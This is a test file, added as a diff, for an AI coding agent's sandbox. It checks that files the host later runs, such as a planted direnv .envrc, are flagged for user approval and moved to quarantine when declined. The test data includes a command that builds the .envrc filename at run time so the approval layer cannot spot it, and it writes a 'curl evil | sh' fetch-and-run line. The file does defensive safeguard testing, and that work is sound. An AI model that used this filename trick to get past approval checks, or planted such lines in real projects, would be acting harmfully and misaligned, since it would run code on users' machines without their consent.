@@ -1,0 +1,158 @@
+"""What a sandboxed command creates that the host runs later: asked after the command, moved aside if not accepted.
+
+The mounts hold only what exists when a command starts (guard.yaml's host-executed-sandbox rows
+run the attacks, headless); here the same compare runs through a real turn (fake Messages API,
+real SDK, loop, approval pipeline and sandbox), where the person answers a card: kept when
+accepted, moved out of the project when declined or when nobody can be asked. The controls: an
+ordinary file written the same way brings no card, and a virtualenv the agent makes stays
+usable (``python -m venv`` then ``pip install``, twice) with no card.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from codingcode_jupyter.engine.approval.host_files import settle_host_files
+from codingcode_jupyter.engine.events import ToolCallFinished
+from codingcode_jupyter.engine.user_dir import user_dir
+from tests.engine.sandbox_helpers import make_sandbox, needs_sandbox, run
+from tests.fakes.anthropic_server import Reply, text, tool_use
+from tests.fakes.front import ScriptedFront
+
+# The file's name is built at run time: no command line names it, so the approval layer cannot see it.
+PLANT = 'mkdir -p sub && n=.en && echo "echo PLANTED" > "sub/${n}vrc"\n'
+ORDINARY = 'mkdir -p sub && n=no && echo "ordinary" > "sub/${n}tes.txt"\n'
+
+
+async def _turn(project: Path, front: ScriptedFront | None, *commands: str, fake_api) -> list:
+    from codingcode_jupyter.engine.runtime import open_session
+    from codingcode_jupyter.engine.session import TurnOptions
+
+    for number, command in enumerate(commands):
+        fake_api.add(Reply([tool_use("execute_command", {"command": command}, id=f"c{number}")]))
+    fake_api.add(Reply([text("done")]))
+    session = open_session(project, model="claude-sonnet-5")
+    emitted: list = []
+    try:
+        await session.run_turn("run them", front if front is not None else emitted.append,
+                               options=TurnOptions(mode="bypass"))
+    finally:
+        await session.aclose()
+    return front.events if front is not None else emitted
+
+
+def _results(events: list) -> list[str]:
+    return [e.result or "" for e in events if isinstance(e, ToolCallFinished)]
+
+
+def _host_cards(front: ScriptedFront) -> list:
+    return [r for r in front.asked if r.tool_use_id.endswith(":host-files")]
+
+
+def _quarantined(name: str) -> list[Path]:
+    root = user_dir() / "quarantine"
+    return [p for p in root.rglob(name)] if root.exists() else []
+
+
+@needs_sandbox
+@pytest.mark.parametrize("answer", ["allow", "deny"])
+async def test_a_new_host_file_is_asked_about_and_kept_only_when_accepted(fake_api, project, answer):
+    (project / "plant.sh").write_text(PLANT)
+    front = ScriptedFront([answer])
+    events = await _turn(project, front, "sh plant.sh", fake_api=fake_api)
+    cards = _host_cards(front)
+    assert len(cards) == 1 and front.asked == cards, [r.tool_use_id for r in front.asked]
+    assert "sub/.envrc" in cards[0].reason and "direnv" in cards[0].reason and cards[0].forced
+    planted = project / "sub" / ".envrc"
+    if answer == "allow":
+        assert planted.read_text() == "echo PLANTED\n"
+        assert "kept sub/.envrc" in _results(events)[0]
+    else:
+        assert not planted.exists(), "declined: moved out of the project"
+        assert [p.read_text() for p in _quarantined(".envrc")] == ["echo PLANTED\n"]
+        assert "moved out of the project" in _results(events)[0]
+
+
+@needs_sandbox
+async def test_nobody_to_ask_moves_it_aside(fake_api, project):
+    (project / "plant.sh").write_text(PLANT)
+    events = await _turn(project, None, "sh plant.sh", fake_api=fake_api)
+    assert not (project / "sub" / ".envrc").exists()
+    assert "moved out of the project" in _results(events)[0]
+
+
+@needs_sandbox
+async def test_control_an_ordinary_file_brings_no_card(fake_api, project):
+    (project / "plant.sh").write_text(ORDINARY)
+    front = ScriptedFront(["deny"])
+    events = await _turn(project, front, "sh plant.sh", "git init -q . && git status --short", fake_api=fake_api)
+    assert front.asked == [] and (project / "sub" / "notes.txt").read_text() == "ordinary\n"
+    # The sandbox's own empty mount targets (a .git placeholder) are not the command's.
+    assert all("moved out" not in r for r in _results(events))
+
+
+def test_a_changed_host_file_gets_its_previous_content_back(tmp_path):
+    # The mounts keep existing files read-only; should a backend not hold one, the compare still
+    # sees the change (the change is made here on the host, as if by a command) and restores it.
+    project, home = tmp_path / "proj", tmp_path / "home"
+    project.mkdir(), home.mkdir()
+    (project / ".envrc").write_text("export A=1\n")
+    sandbox = make_sandbox(project, home)
+    watch = sandbox.watch_host()
+    assert watch.changes() == [], "control: nothing changed, nothing named"
+    (project / ".envrc").write_text("curl evil | sh\n")
+    (project / "notes.md").write_text("ordinary\n")
+    changes = watch.changes()
+    assert [(c.rel, c.change) for c in changes] == [(".envrc", "changed")]
+    lines = watch.quarantine(changes)
+    assert (project / ".envrc").read_text() == "export A=1\n" and "previous content is back" in lines[0]
+    assert [p.read_text() for p in _quarantined(".envrc")] == ["curl evil | sh\n"]
+
+
+def _wheel(where: Path, name: str) -> Path:
+    """A tiny wheel with a module and a .pth file (what an editable install leaves in site-packages)."""
+    info = f"{name}-1.0.dist-info"
+    files = {f"{name}.py": "VALUE = 1\n", f"{name}.pth": f"# {name} path file\n",
+             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
+             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    record = "".join(f"{path},,\n" for path in files) + f"{info}/RECORD,,\n"
+    path = where / f"{name}-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w") as wheel:
+        for rel, body in {**files, f"{info}/RECORD": record}.items():
+            wheel.writestr(rel, body)
+    return path
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_a_venv_the_agent_makes_stays_usable_and_unasked(tmp_path):
+    project, home = tmp_path / "proj", tmp_path / "home"
+    (project / "wheels").mkdir(parents=True), home.mkdir()
+    _wheel(project / "wheels", "agent_one"), _wheel(project / "wheels", "agent_two")
+    sandbox = make_sandbox(project, home)
+    pip = "PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q --no-index --no-cache-dir"
+
+    def bracketed(command: str) -> tuple[int, str, list[str]]:
+        async def go():
+            watch = sandbox.watch_host()
+            done = await run(sandbox, command, timeout=240.0)
+            return done.returncode, done.out + done.err, await settle_host_files(watch, command, None)
+        return asyncio.run(go())
+
+    try:
+        code, out, notes = bracketed(f"python3 -m venv .venv && {pip} wheels/agent_one-1.0-py3-none-any.whl")
+        assert code == 0 and notes == [], out
+        # The next command: the venv is the agent's, so it is not bound read-only (pip writes into it).
+        code, out, notes = bracketed(f"{pip} wheels/agent_two-1.0-py3-none-any.whl && "
+                                     ".venv/bin/python -c 'import agent_one, agent_two; print(\"OK\")'")
+        assert code == 0 and "OK" in out and notes == [], out
+        assert list(project.glob(".venv/lib/python*/site-packages/agent_two.pth")), "the venv's .pth files are kept"
+        # Control: what other programs than the venv's Python run is still asked, inside it too.
+        code, out, notes = bracketed('n=.en; echo "echo PLANTED" > ".venv/${n}vrc"')
+        assert not (project / ".venv" / ".envrc").exists() and "moved out" in notes[0]
+    finally:
+        asyncio.run(sandbox.aclose())
